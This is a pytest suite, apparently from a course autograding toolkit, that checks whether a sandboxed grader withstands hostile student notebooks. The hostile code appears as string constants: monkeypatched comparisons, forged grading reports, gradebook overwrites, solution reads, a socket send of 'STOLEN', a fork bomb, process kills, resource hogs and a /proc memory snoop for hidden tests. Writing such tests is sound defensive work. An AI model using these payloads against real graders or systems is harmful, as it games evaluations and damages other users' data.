"""Hostile submissions, written here so that none reaches a real gradebook, graded in one batch
of the fixture course with `course_kit.instructor.grade` (sandboxed, judged):

* tricks inside the kernel (custom exception handler, input transformer wrapping every later
  cell in try/except, patched comparisons, forged reports, a replaced course_lib.grading):
  none gains a point over the same answers without the trick;
* attacks on the grader (write another student's copy or the gradebook, read solutions/, open
  a socket, allocate 3 GiB, print 50 MB, kill its parent and every process it can, a bounded
  fork bomb): none harms another student, and every student gets a row and a feedback page;
* honest work with broken nbgrader cells (a duplicated test cell, renamed ids, code pasted
  into a new notebook) still gets its marks, with the repair named in the notes.
"""

from __future__ import annotations

import csv
import hashlib
import socket
import threading

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from course_kit import instructor, sandbox
from course_kit.fixture_course import ANSWERS, make_course, make_submission

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        sandbox.sandbox_problem() is not None,
        reason=f"bubblewrap cannot be used here: {sandbox.sandbox_problem()}",
    ),
]

STUB_SQUARES = "def sum_of_squares(values):\n    return 0.0\n"  # right only for []
SHAPE_ONLY = "def normalise(values):\n    return np.zeros(len(values))\n"  # the right shape

EXCEPTHOOK = (
    """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
"""
    + STUB_SQUARES
)

TRANSFORMER = (
    """
def _wrap(lines):
    body = "".join("    " + line for line in lines) or "    pass\\n"
    return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_wrap)
"""
    + STUB_SQUARES
)

PATCHED = (
    """
import builtins, math, numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
"""
    + STUB_SQUARES
)

# reports forged after every cell (they land in the test cells' outputs), with the visible
# values the student knows and guesses for the hidden ones
FORGED = (
    """
from IPython.display import display
MIME = "application/vnd.course-kit.report+json"
GUESS = {
    "squares-1-2": {"float": 5.0}, "squares-empty": {"float": 0.0},
    "squares-arange": {"float": 300.0},
    "normalise-3-4": {"array": [0.6, 0.8], "nonfinite": [False, False], "dtype": "float64",
                      "shape": [2]},
    "normalise-hidden": {"array": [0.5, -0.5, 0.5], "nonfinite": [False] * 3,
                         "dtype": "float64", "shape": [3]},
    "normalise-negative": {"array": [-0.6, 0.0, 0.8], "nonfinite": [False] * 3,
                           "dtype": "float64", "shape": [3]},
}
def _forge(result):
    for key, value in GUESS.items():
        display({MIME: {"key": key, "value": value, "judging": {"rtol": 1e9}},
                 "text/plain": ""}, raw=True)
    display({MIME: {"key": "normalise-zeros", "raised": "ValueError", "message": ""},
             "text/plain": ""}, raw=True)
get_ipython().events.register("post_run_cell", _forge)
"""
    + STUB_SQUARES
)

# course_lib.grading replaced: report() sends the guesses instead of calling the student's code
REPLACED = (
    FORGED.replace('get_ipython().events.register("post_run_cell", _forge)', "")
    + """
import course_lib.grading as g, sys, types
def report(key, compute, **judging):
    value = GUESS.get(key, {"float": 0.0})
    display({MIME: {"key": key, "value": value, "judging": {}}, "text/plain": ""}, raw=True)
g.report = report
g.check_close = lambda *a, **k: None
g.check_implemented = lambda f, *a, **k: None
fake = types.ModuleType("course_lib.grading")
fake.__dict__.update(g.__dict__)
sys.modules["course_lib.grading"] = fake
"""
)

KERNEL_TRICKS = {
    "excepthook": EXCEPTHOOK,
    "transformer": TRANSFORMER,
    "patched": PATCHED,
    "forged": FORGED,
    "replaced": REPLACED,
}


def vandal(root, port):
    """Everything a submission could try against the grader and the other students."""
    return (
        f"""
import os, socket, sqlite3
ROOT = {str(root)!r}
def attempt(name, fn):
    try:
        fn(); print(name, "SUCCEEDED")
    except BaseException as err:
        print(name, "failed:", type(err).__name__)
def overwrite_alice():
    with open(ROOT + "/grading/submitted/alice/demo/demo.ipynb", "w") as fh:
        fh.write("{{}}")
def write_gradebook():
    con = sqlite3.connect(ROOT + "/grading/gradebook.db")
    con.execute("UPDATE grade SET manual_score = 99")
    con.commit()
def read_solutions():
    print(open(ROOT + "/solutions/demo/demo.ipynb").read()[:50])
def phone_home():
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"STOLEN")
def own_gradebook():  # the sandbox's own copy: allowed, and worthless
    con = sqlite3.connect("/course/gradebook.db")
    con.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
    con.commit()
for name, fn in [("overwrite-alice", overwrite_alice), ("write-gradebook", write_gradebook),
                 ("read-solutions", read_solutions), ("socket", phone_home),
                 ("own-gradebook", own_gradebook)]:
    attempt(name, fn)
"""
        + STUB_SQUARES
    )


MEMORY = """
import numpy as np
try:
    big = np.ones(3 * 2**30, dtype=np.uint8)
    print("ALLOCATED", big.nbytes)
except MemoryError:
    print("3 GiB: MemoryError")
"""

PRINTER = "print('y' * 50_000_000)\n"

KILLER = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""

FORK_BOMB = """
import os, time
children = []
try:
    for _ in range(2000):  # bounded
        pid = os.fork()
        if pid == 0:
            time.sleep(2)
            os._exit(0)
        children.append(pid)
    print("FORKED ALL", len(children))
except OSError as err:
    print("FORK STOPPED AFTER", len(children), type(err).__name__)
for pid in children:
    os.waitpid(pid, 0)
"""

GOOD = ANSWERS["correct"]


def with_answers(released, squares, normalise=None):
    nb = make_submission(released, "untouched")
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "squares":
            cell.source = squares
        if gid == "normalise" and normalise is not None:
            cell.source = normalise
    return nb


class Listener:
    """A loopback TCP server that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self.stop = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.received.append(conn.recv(100))
                conn.close()
            except OSError:
                continue


def digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    root = make_course(tmp)
    [released] = instructor.release(root)
    listener = Listener()
    subs = tmp / "subs"
    notebooks = {
        # honest references: what the tricks must not beat
        "alice": with_answers(released, GOOD["squares"], GOOD["normalise"]),
        "shapeonly": with_answers(released, STUB_SQUARES, SHAPE_ONLY),
        **{k: with_answers(released, v, SHAPE_ONLY) for k, v in KERNEL_TRICKS.items()},
        "vandal": with_answers(released, vandal(root, listener.port), SHAPE_ONLY),
        "memory": with_answers(released, MEMORY + GOOD["squares"], GOOD["normalise"]),
        "printer": with_answers(released, PRINTER + GOOD["squares"], GOOD["normalise"]),
        "killer": with_answers(released, KILLER + GOOD["squares"], GOOD["normalise"]),
        "forkbomb": with_answers(released, FORK_BOMB + GOOD["squares"], GOOD["normalise"]),
        "zed": with_answers(released, GOOD["squares"], GOOD["normalise"]),  # graded after all
    }
    dup = make_submission(released, "correct")
    dup.cells.insert(4, nbformat.from_dict(dup.cells[3]))
    notebooks["duplicated"] = dup
    renamed = make_submission(released, "correct")
    for cell in renamed.cells:
        cell.metadata["nbgrader"]["grade_id"] += "-mine"
    notebooks["renamed"] = renamed
    notebooks["pasted"] = new_notebook(
        cells=[
            new_code_cell("import numpy as np"),
            new_code_cell(GOOD["squares"]),
            new_code_cell(GOOD["normalise"]),
        ]
    )
    for student, nb in notebooks.items():
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / "demo.ipynb")
    # alice is graded first (alone) so that the vandal has her copy and her grades to attack
    (tmp / "first" / "alice").mkdir(parents=True)
    nbformat.write(notebooks["alice"], tmp / "first" / "alice" / "demo.ipynb")
    instructor.grade("demo", tmp / "first", root=root, timeout=20)
    alice_copy = root / "grading" / "submitted" / "alice" / "demo" / "demo.ipynb"
    before = digest(alice_copy)
    rows = instructor.grade("demo", subs, root=root, timeout=20)
    listener.stop = True
    return root, {r.student: r for r in rows}, before, digest(alice_copy), listener


def page(root, row):
    return (root / row.feedback).read_text()


def printed(root, student):
    """What the student's cells printed, from the executed notebook (not the page, whose
    source listing also holds the strings the code prints)."""
    path = root / "grading" / "autograded" / student / "demo" / "demo.ipynb"
    nb = nbformat.read(path, 4)
    return "".join(
        o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
    )


def test_every_student_gets_a_row_and_a_feedback_page(batch):
    root, rows, *_ = batch
    assert len(rows) == 16
    for student, row in rows.items():
        assert (root / row.feedback).is_file(), student
    with open(root / "grading" / "grades_demo.csv") as fh:
        assert sorted(r["student"] for r in csv.DictReader(fh)) == sorted(rows)


@pytest.mark.parametrize("trick", sorted(KERNEL_TRICKS))
def test_kernel_tricks_gain_nothing(batch, trick):
    _, rows, *_ = batch
    honest = rows["shapeonly"].score
    assert rows[trick].score == honest == 0, (trick, rows[trick])


def test_a_vandal_harms_no_one(batch):
    root, rows, before, after, listener = batch
    assert before == after  # alice's submitted copy is untouched
    assert rows["alice"].score == 6 and rows["zed"].score == 6
    assert rows["vandal"].score == 0  # not even with its own sandbox gradebook at 99
    text = printed(root, "vandal")
    for attack in ("overwrite-alice", "write-gradebook", "read-solutions", "socket"):
        assert f"{attack} failed" in text, attack
    assert "own-gradebook failed" in text  # no gradebook in the kernel's sandbox (issue 24.2)
    assert listener.received == []
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'grading' / 'gradebook.db'}") as gb:
        for student in rows:
            sub = gb.find_submission("demo", student)
            assert all(g.manual_score is None for nb in sub.notebooks for g in nb.grades)


def test_resource_attacks_stay_in_their_sandbox(batch):
    root, rows, *_ = batch
    memory = printed(root, "memory")
    assert "ALLOCATED" not in memory and rows["memory"].score == 6
    assert "3 GiB: MemoryError" in memory
    assert rows["printer"].score == 6
    assert (root / rows["printer"].feedback).stat().st_size < 1_500_000
    # its kills reach nothing outside its sandbox (nbgrader runs outside it, issue 24.2): as
    # root, killing the sandbox's init fails (another user) and the answer cell stops there
    assert rows["killer"].status == "graded" and rows["killer"].score >= 4
    bomb = printed(root, "forkbomb")
    assert "FORK STOPPED AFTER" in bomb and "FORKED ALL" not in bomb
    assert rows["forkbomb"].score == 6
    assert "yyyyyyyyyy" in printed(root, "printer")  # printed, then capped


def test_honest_work_with_broken_cells_gets_its_marks(batch):
    _, rows, *_ = batch
    for student in ("duplicated", "renamed", "pasted"):
        assert rows[student].score == 6, rows[student]
    assert any("same nbgrader id" in n for n in rows["duplicated"].notes)
    assert any("answer 'squares'" in n for n in rows["renamed"].notes)
    assert any("no nbgrader cells" in n for n in rows["pasted"].notes)


# ------------------------------------------------------------- issue 24.2 and 24.8: the sandbox
# Nothing with the hidden tests is reachable from the kernel (no gradebook, no notebook, no
# process holding them), and a submission's processes share one memory cap, one capped disk and
# one time limit, however many processes, files or cells it makes.

# The patterns are assembled at run time so that this cell's own source (which the kernel may
# cache in a file) does not match them.
SNOOP = (
    """
import json, os, sqlite3, sys
MARKS = [m.encode() for m in ("BEGIN " + "HIDDEN TESTS", "squares" + "-arange",
                              "normalise" + "-negative", "BEGIN " + "SOLUTION")]
LIBS = tuple(os.path.realpath(p) + "/" for p in {sys.prefix, sys.base_prefix, "/usr", "/etc"})
found, seen = [], {"files": 0, "procs": 0}
def library(path):
    return os.path.realpath(path).startswith(LIBS)
def marked(data):
    return [m.decode() for m in MARKS if m in data]
def try_sqlite(path):
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master")]
        if "source_cell" in tables:  # a gradebook: nbgrader's own test ones hold none of ours
            rows = [r[0] for r in con.execute("SELECT source FROM source_cell")]
            hits = marked("\\n".join(rows).encode())
            if hits or not library(path):
                found.append(("gradebook", path, hits))
        elif tables and not library(path):
            found.append(("database", path, tables))
    except Exception:
        pass
for top, dirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    for name in dirs + files:
        path = os.path.join(top, name)
        if name == "solutions" and not library(path):
            found.append(("solutions", path))
    for name in files:
        path = os.path.join(top, name)
        seen["files"] += 1
        if name.endswith((".db", ".sqlite", ".sqlite3")) or name == "gradebook.db":
            try_sqlite(path)
        if name.endswith(".ipynb") and not library(path):
            found.append(("notebook", path))
        if library(path) or not os.path.isfile(path) or os.path.islink(path):
            continue
        try:
            if os.path.getsize(path) < 50 * 2**20:
                with open(path, "rb") as fh:
                    hits = marked(fh.read())
                if hits:
                    found.append(("file", path, hits))
        except OSError:
            pass
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    seen["procs"] += 1
    for part in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        words = [w for w in ("gradebook", "nbgrader", "solutions") if w.encode() in text]
        if words or marked(text):
            found.append((part, pid, words + marked(text)))
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or end - start > 2**30:
                    continue
                try:
                    mem.seek(start)
                    hits = marked(mem.read(end - start))
                except (OSError, OverflowError, ValueError):
                    continue
                if hits:
                    found.append(("memory", pid, hits))
                    break
    except OSError:
        pass
print("SNOOP SEEN", json.dumps(seen))
print("SNOOP FOUND", json.dumps(found))
"""
    + STUB_SQUARES
)

CHILDREN_800 = """
import os, time
import numpy as np
pids = []
for i in range(5):
    pid = os.fork()
    if pid == 0:
        block = np.ones(800 * 2**20, dtype=np.uint8)  # written: really held
        time.sleep(3)
        os._exit(0)
    pids.append(pid)
held = 0
for pid in pids:
    _, status = os.waitpid(pid, 0)
    held += os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
print("CHILDREN HELD", held, "OF 5")
"""

FILLER = """
import os
total = 0
for i in range(25):  # 25 x 60 MB, in its working folder and in its temporary folder
    path = f"{'.' if i % 2 else os.environ.get('TMPDIR', '/tmp')}/fill{i}.bin"
    try:
        with open(path, "wb") as fh:
            for _ in range(60):
                fh.write(b"x" * 2**20)
    except OSError as err:
        pass
    total += os.path.getsize(path) if os.path.exists(path) else 0
print("FILLED MB", round(total / 2**20))
for i in range(25):
    for folder in (".", os.environ.get("TMPDIR", "/tmp")):
        if os.path.exists(f"{folder}/fill{i}.bin"):
            os.remove(f"{folder}/fill{i}.bin")
"""

CAPS = {"total_memory_mb": 1500, "disk_mb": 200}


@pytest.fixture(scope="module")
def capped(tmp_path_factory):
    """A batch graded with small caps: the snoop, the memory hog, the disk filler, an honest
    student; then a notebook of very many cells alone, with a short time limit."""
    tmp = tmp_path_factory.mktemp("capped")
    root = make_course(tmp)
    [released] = instructor.release(root)
    notebooks = {
        "snoop": with_answers(released, SNOOP, SHAPE_ONLY),
        "children": with_answers(released, CHILDREN_800 + GOOD["squares"], GOOD["normalise"]),
        "filler": with_answers(released, FILLER + GOOD["squares"], GOOD["normalise"]),
        "honest": with_answers(released, GOOD["squares"], GOOD["normalise"]),
    }
    many = with_answers(released, GOOD["squares"], GOOD["normalise"])
    many.cells += [new_code_cell(f"import time\ntime.sleep(0.05)  # {i}") for i in range(2000)]
    for folder, batch in (("subs", notebooks), ("many", {"manycells": many})):
        for student, nb in batch.items():
            (tmp / folder / student).mkdir(parents=True)
            nbformat.write(nb, tmp / folder / student / "demo.ipynb")
    limits = sandbox.Limits(**CAPS)
    rows = instructor.grade("demo", tmp / "subs", root=root, timeout=120, limits=limits)
    later = instructor.grade(
        "demo", tmp / "many", root=root, timeout=120, limits=sandbox.Limits(wall_s=20)
    )
    rows = {r.student: r for r in rows}
    rows["manycells"] = next(r for r in later if r.student == "manycells")
    return root, rows


def test_no_hidden_test_or_gradebook_is_reachable_from_the_kernel(capped):
    import json

    root, rows, *_ = capped
    text = printed(root, "snoop")
    assert "SNOOP SEEN" in text, text  # it ran to the end
    seen = json.loads(text.split("SNOOP SEEN")[1].splitlines()[0])
    assert seen["files"] > 1000 and seen["procs"] >= 1  # it did look
    found = json.loads(text.split("SNOOP FOUND")[1].splitlines()[0])
    assert found == []
    assert rows["snoop"].score == 0


def test_a_submissions_processes_share_one_memory_cap(capped):
    if sandbox.memory_cap_problem() is not None:
        pytest.skip(f"no cgroup for a total memory cap: {sandbox.memory_cap_problem()}")
    root, rows, *_ = capped
    text = printed(root, "children")
    # 5 x 800 MB is within the per-process limit (3 GB) but not within 1500 MB together
    held = int(text.split("CHILDREN HELD")[1].split()[0])
    assert held <= 1, text
    assert rows["children"].score == 6  # the kernel itself lives on; only the hogs were killed
    assert any("memory cap of 1500 MB" in n for n in rows["children"].notes)


def test_a_submission_cannot_fill_more_disk_than_its_cap(capped):
    root, rows, *_ = capped
    filled = int(printed(root, "filler").split("FILLED MB")[1].split()[0])
    assert 0 < filled <= CAPS["disk_mb"]
    assert rows["filler"].score == 6 and rows["honest"].score == 6


def test_very_many_cells_hit_the_whole_runs_time_limit(capped):
    _, rows = capped
    many_row = rows["manycells"]
    assert many_row.status.startswith("not graded") and many_row.score == 0
    assert "stopped after 20 s" in many_row.status
    # without the cap it would run for 2,000 x 0.05 s and more: the limit is the whole run's
    assert sandbox.Limits().wall_s <= 3600  # the default does not grow with the cells either
